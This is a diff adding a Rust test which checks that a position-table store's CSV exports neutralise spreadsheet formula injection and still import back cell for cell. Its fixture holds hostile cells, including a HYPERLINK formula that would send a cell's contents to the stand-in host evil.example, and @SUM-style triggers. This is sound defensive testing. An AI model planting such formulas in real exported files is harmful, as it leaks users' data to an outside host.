@@ -155,3 +155,41 @@ async fn a_position_table_survives_export_and_import_cell_for_cell() {
     let second = export::position_table_csv(&store, again.id).await.unwrap();
     assert_eq!(first, second);
 }
+
+/// Every cell of a CSV export, as a spreadsheet reads it (the byte-order mark off).
+fn cells(csv: &str) -> Vec<String> {
+    let mut reader =
+        ::csv::ReaderBuilder::new().has_headers(false).from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
+    reader.records().flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect()
+}
+
+#[tokio::test]
+async fn no_exported_cell_begins_a_formula_and_the_table_still_imports_back() {
+    let (store, _dir) = store().await;
+    let who = Who::at("tester", common::now());
+    let hostile = "ref,title,=FTU,NEA,joint\r\n\
+        \"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",+title,@SUM(1),-2+3,'=quoted\r\n\
+        Art. 2,\"\tTabbed\",\"- a list\n- of two\",'plain,''=twice\r\n";
+    let table = import::parse_position_table(hostile.as_bytes(), "hostile.csv").unwrap();
+    let n = store.import_table(&table, "Formulas", "hostile.csv", &who).await.unwrap();
+    let first = export::position_table_csv(&store, n.id).await.unwrap();
+    let triggers = ['=', '+', '-', '@', '\t', '\r'];
+    for cell in cells(&first) {
+        assert!(!cell.starts_with(triggers), "a spreadsheet would run {cell:?}");
+    }
+    let d = agreement::document(&store, n.id, Reference::Joint).await.unwrap();
+    for cell in cells(&d.to_csv().unwrap()) {
+        assert!(!cell.starts_with(triggers), "a spreadsheet would run {cell:?}");
+    }
+    // and back again, cell for cell: the texts the record keeps are the ones the file held
+    let again = import::parse_position_table(first.as_bytes(), "again.csv").unwrap();
+    assert_eq!(again.parties, ["=FTU", "NEA"]);
+    let n2 = store.import_table(&again, "Formulas again", "again.csv", &who).await.unwrap();
+    assert_eq!(export::position_table_csv(&store, n2.id).await.unwrap(), first);
+    let c = &store.list_clauses(n2.id).await.unwrap()[0].clause;
+    assert_eq!(c.reference, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+    assert_eq!(c.title, "+title");
+    let texts: Vec<String> = store.versions(c.id).await.unwrap().into_iter().map(|v| v.text).collect();
+    // `'=quoted` is how a spreadsheet writes text that begins with `=`: the record keeps the text
+    assert!(texts.contains(&"@SUM(1)".to_string()) && texts.contains(&"=quoted".to_string()), "{texts:?}");
+}
